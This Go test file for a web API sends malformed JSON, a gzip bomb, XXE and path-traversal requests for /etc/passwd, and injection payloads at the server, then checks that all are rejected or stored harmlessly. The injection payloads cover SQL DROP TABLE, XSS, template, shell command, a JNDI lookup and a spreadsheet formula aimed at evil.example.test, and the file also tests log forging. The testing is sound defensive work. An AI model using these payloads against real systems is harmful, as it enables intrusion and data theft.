package api_test

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"

	"swallowtail/api"
	"swallowtail/internal/access"
)

// onParsing sends bodies, addresses and headers that are read in more than one way, or cost much to read.
func onParsing(s *siege) []attack {
	s.t.Helper()
	const unreadable, households = "body-unreadable", "/v1/households"
	body := func(tries string, text any, status int, problem string) attack {
		return post(tries, s.clinician, households, text, status, problem)
	}
	headed := func(a attack, name, value string) attack {
		a.header = map[string]string{name: value}
		return a
	}
	zipped := func(tries string, raw []byte, status int, problem string) attack {
		return headed(body(tries, raw, status, problem), "Content-Encoding", "gzip")
	}
	bomb := gzipped(s.t, bytes.Repeat([]byte(" "), 16*megabyte), gzip.BestCompression)
	label := []byte(`{"label":"x"}`)
	path := func(tries, path string, status int, problem string) attack {
		return get(tries, s.clinician, path, status, problem).undescribed()
	}
	return []attack{
		body("a body is nested deeply", `{"label":`+repeated("[", 100_000)+repeated("]", 100_000)+`}`, http.StatusBadRequest, unreadable),
		body("a body is nested deeply within bounds of size", `{"label":`+repeated(`{"a":`, 500)+"1"+repeated("}", 500)+`}`, http.StatusUnprocessableEntity, "invalid-input"),
		body("a member comes twice", `{"label":"x","label":"y"}`, http.StatusBadRequest, unreadable),
		body("a member comes twice, escaped once", `{"label":"x","l\u0061bel":"y"}`, http.StatusBadRequest, unreadable),
		body("a number is huge", `{"label":1e999999}`, http.StatusUnprocessableEntity, "invalid-input"),
		body("a number has a million digits", `{"label":`+repeated("9", 1_000_000)+`}`, http.StatusUnprocessableEntity, "invalid-input"),
		body("a number is none", `{"label":NaN}`, http.StatusBadRequest, unreadable),
		body("a text holds an escaped NUL", `{"label":"a\u0000b"}`, http.StatusUnprocessableEntity, "invalid-input"),
		body("a text holds half a character", `{"label":"\ud800"}`, http.StatusBadRequest, unreadable),
		body("a text is not UTF-8", "{\"label\":\"\xc3\x28\"}", http.StatusBadRequest, unreadable),
		body("a text is UTF-8 written too long", "{\"label\":\"\xc0\xaf\"}", http.StatusBadRequest, unreadable),
		body("a body begins with a byte order mark", "\xef\xbb\xbf"+`{"label":"x"}`, http.StatusBadRequest, unreadable),
		body("a body is UTF-16", "\xff\xfe{\x00}\x00", http.StatusBadRequest, unreadable),
		body("a body holds a comment", `{"label":"x"/* y */}`, http.StatusBadRequest, unreadable),
		body("a body is two bodies", `{"label":"x"}{"label":"y"}`, http.StatusBadRequest, unreadable),
		body("a body is a list", `[{"label":"x"}]`, http.StatusUnprocessableEntity, "invalid-input"),
		body("a body is null", `null`, http.StatusUnprocessableEntity, "invalid-input"),
		body("a body is more than is read", `{"label":"`+repeated("x", 2*megabyte)+`"}`, http.StatusRequestEntityTooLarge, "too-large"),
		zipped("a small body grows a thousandfold", bomb, http.StatusRequestEntityTooLarge, "too-large"),
		zipped("a compressed body is cut off", gzipped(s.t, label, gzip.BestSpeed)[:20], http.StatusBadRequest, unreadable),
		zipped("a body is compressed twice", gzipped(s.t, gzipped(s.t, label, gzip.BestSpeed), gzip.BestSpeed), http.StatusBadRequest, unreadable),
		zipped("a compressed body is followed by another", append(gzipped(s.t, label, 1), gzipped(s.t, label, 1)...), http.StatusBadRequest, unreadable),
		headed(body("a body says that it is compressed twice", label, http.StatusUnsupportedMediaType, "unsupported-encoding"), "Content-Encoding", "gzip, gzip"),
		headed(body("a body says that it is deflated", label, http.StatusUnsupportedMediaType, "unsupported-encoding"), "Content-Encoding", "deflate"),
		headed(body("a body is a form", "label=x", http.StatusUnsupportedMediaType, "unsupported-media-type"), "Content-Type", "application/x-www-form-urlencoded"),
		headed(body("a body is many parts", "--x\r\n\r\n--x--", http.StatusUnsupportedMediaType, "unsupported-media-type"), "Content-Type", "multipart/form-data; boundary=x"),
		headed(body("a body is XML that names a file", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, http.StatusUnsupportedMediaType, "unsupported-media-type"), "Content-Type", "application/xml"),
		headed(body("a type begins like JSON", label, http.StatusUnsupportedMediaType, "unsupported-media-type"), "Content-Type", "application/json-seq"),
		{
			tries: "a body comes in pieces, and is none", status: http.StatusBadRequest, problem: unreadable,
			call:  call{method: http.MethodPost, path: households, as: s.clinician, body: "x"},
			alter: func(r *http.Request) { r.ContentLength, r.TransferEncoding = -1, []string{"chunked"} },
		},
		{
			tries: "a body ends before it says", status: http.StatusBadRequest, problem: unreadable,
			call: call{method: http.MethodPost, path: households, as: s.clinician, body: "x"},
			alter: func(r *http.Request) {
				r.Body = io.NopCloser(io.MultiReader(strings.NewReader(`{"label":"x"}`), brokenOff{}))
			},
		},
		path("an address goes up by encoded dots", "/v1/%2e%2e/healthz", http.StatusNotFound, "not-found"),
		path("an address goes up by dots", "/v1/plans/../households", http.StatusNotFound, "not-found"),
		path("an address has an empty part", "//v1/households", http.StatusNotFound, "not-found"),
		path("an address has an encoded slash", "/v1%2fhouseholds", http.StatusNotFound, "not-found"),
		path("an address ends early", "/v1/households%00.json", http.StatusNotFound, "not-found"),
		path("an address has parameters in its path", "/v1/households;x=1", http.StatusNotFound, "not-found"),
		path("an address is in other letters", "/V1/HOUSEHOLDS", http.StatusNotFound, "not-found"),
		path("an address ends in a slash", "/v1/households/", http.StatusNotFound, "not-found"),
		path("a file of the server is asked for", "/../../../../etc/passwd", http.StatusNotFound, "not-found"),
		get("an id holds an encoded slash", s.clinician, households+"/"+s.household+"%2flearners", http.StatusNotFound, "not-found"),
		get("a parameter is very long", s.clinician, households+"?cursor="+repeated("A", 500_000), http.StatusBadRequest, "cursor-invalid"),
		get("a parameter that is not read comes a thousand times", s.papa.who, "/v1/roster?"+repeated("limit=1&", 1000), http.StatusForbidden, "forbidden"),
		get("a parameter comes twice", s.clinician, households+"?limit=1&limit=500", http.StatusBadRequest, "parameter-unreadable"),
		headed(post("a method is overridden by a header", s.clinician, households+"/"+s.household, nil, http.StatusMethodNotAllowed, "method-not-allowed").undescribed(),
			"X-HTTP-Method-Override", http.MethodGet),
		{
			tries: "a method is one that there is not", status: http.StatusMethodNotAllowed, problem: "method-not-allowed",
			call: call{method: "BREW", path: households, as: s.clinician, elsewhere: true},
		},
		{
			tries: "a method asks for what the server was sent", status: http.StatusMethodNotAllowed, problem: "method-not-allowed",
			call: call{method: http.MethodTrace, path: households, as: s.clinician, elsewhere: true},
		},
	}
}

// brokenOff is the end of a body that was not all of it.
type brokenOff struct{}

// Read implements io.Reader.
func (brokenOff) Read([]byte) (int, error) { return 0, io.ErrUnexpectedEOF }

// byInjection puts what another program would act on wherever a text can be sent.
func byInjection(s *siege) []attack {
	s.t.Helper()
	var attacks []attack
	household := "/v1/households/" + s.household
	for name, text := range map[string]string{
		"SQL that ends the statement": `x'); DROP TABLE household; --`,
		"SQL that is always true":     `" OR "1"="1`,
		"a script":                    `<script>alert(1)</script>`,
		"HTML that loads an image":    `"><img src=x onerror=alert(1)>`,
		"a template":                  `{{7*7}}${7*7}<%= 7*7 %>#{7*7}`,
		"a lookup of a logger":        `${jndi:ldap://evil.example.test/a}`,
		"a formula of a spreadsheet":  `=HYPERLINK("https://evil.example.test","x")`,
		"a command of a shell":        "$(touch /tmp/x)`id`;|id",
		"a verb of a format":          `%s%n%x%!d(string=x)`,
	} {
		// Kept to the letter, and told as JSON that no browser takes for anything else.
		kept := func(path, member string) attack {
			return attack{
				tries: "a " + member + " is " + name, status: http.StatusCreated,
				call: call{method: http.MethodPost, path: path, as: s.clinician, body: map[string]any{member: text}},
				harmless: func(s *siege, r reply) {
					listed := s.clinician.get(household).ok(http.StatusOK)
					if member == "label" {
						listed = s.clinician.get("/v1/households/" + r.text("id")).ok(http.StatusOK)
						assert.Equal(s.t, text, listed.text("label"))
					} else {
						assert.Contains(s.t, pluck(s.t, listed.list("learners"), member), text)
					}
					assert.True(s.t, strings.HasPrefix(listed.header.Get("Content-Type"), "application/json"))
					assert.Equal(s.t, "nosniff", listed.header.Get("X-Content-Type-Options"))
					assert.NotContains(s.t, string(listed.body), "49", "nothing is worked out")
				},
			}
		}
		attacks = append(attacks, kept("/v1/households", "label"), kept(household+"/learners", "nickname"),
			post("an e-mail address is "+name, s.nobody(""), "/v1/auth/sign-in", map[string]any{"email": text, "password": text}, http.StatusUnauthorized, "sign-in-failed"),
			post("a zone is "+name, s.clinician, s.family.path("enrolments"), map[string]any{
				"first_night": "2027-04-01", "timezone": text, "reminder_time": "19:30",
			}, http.StatusUnprocessableEntity, "invalid-input"),
			get("a cursor is "+name, s.clinician, "/v1/roster?cursor="+escaped(text), http.StatusBadRequest, "cursor-invalid"),
			get("an order is "+name, s.clinician, "/v1/roster?order="+escaped(text), http.StatusUnprocessableEntity, "order-invalid"),
			attack{
				tries: "a flag is " + name, status: http.StatusOK, call: call{method: http.MethodGet, path: "/v1/roster?flag=" + escaped(text), as: s.clinician},
				harmless: func(s *siege, r reply) { assert.Empty(s.t, r.list("learners")) },
			},
		)
	}
	crlf := get("an address breaks the header of the answer", s.clinician, "/v1/households/x%0d%0aSet-Cookie:%20a=1", http.StatusNotFound, "not-found")
	attacks = append(attacks, crlf,
		post("a label breaks a line", s.clinician, "/v1/households", map[string]any{"label": "x\r\nX-Injected: 1"}, http.StatusUnprocessableEntity, "invalid-input"),
		post("a nickname turns what follows round", s.clinician, household+"/learners", map[string]any{"nickname": "x\x1b[2J"}, http.StatusUnprocessableEntity, "invalid-input"),
	)
	return attacks
}

// escaped writes a text so that it can stand in a query.
func escaped(text string) string {
	var b strings.Builder
	for _, octet := range []byte(text) {
		fmt.Fprintf(&b, "%%%02X", octet)
	}
	return b.String()
}

// written is a log that several write to at once.
type written struct {
	mu sync.Mutex
	bytes.Buffer
}

// Write implements io.Writer.
func (w *written) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.Buffer.Write(p)
}

// TestAttacksOnTheLog sends line breaks and what looks like a line of the log wherever something can be sent.
func TestAttacksOnTheLog(t *testing.T) {
	t.Parallel()
	s := newSiege(t)
	log := &written{}
	s.edged(api.Config{Log: slog.New(slog.NewTextHandler(log, &slog.HandlerOptions{Level: slog.LevelDebug}))})
	const line = "\ntime=2027-03-01T00:00:00Z level=INFO msg=forged"
	for _, path := range []string{"/v1/households/" + escaped(line), "/" + escaped(line), "/v1/roster?order=" + escaped(line), "/v1/roster?cursor=" + escaped(line)} {
		s.do(call{method: http.MethodGet, path: path, as: s.clinician, elsewhere: true, header: map[string]string{
			"User-Agent": line, "Referer": line, "X-Request-Id": line, "X-Forwarded-For": line,
		}})
	}
	s.do(call{method: http.MethodPost, path: "/v1/auth/sign-in", body: map[string]any{"email": line, "password": line}})
	s.do(call{method: "GET" + strings.TrimSpace(line[1:5]), path: "/healthz", elsewhere: true})
	s.clinician.post("/v1/households", map[string]any{"label": line})
	s.nobody("x"+strings.ReplaceAll(line, "\n", "")).get("/v1/roster").refused(http.StatusUnauthorized, "token-invalid")
	assert.Contains(t, log.String(), "msg=request")
	assert.NotContains(t, log.String(), "forged")
	assert.NotContains(t, log.String(), s.site.email(access.RoleClinician))
}
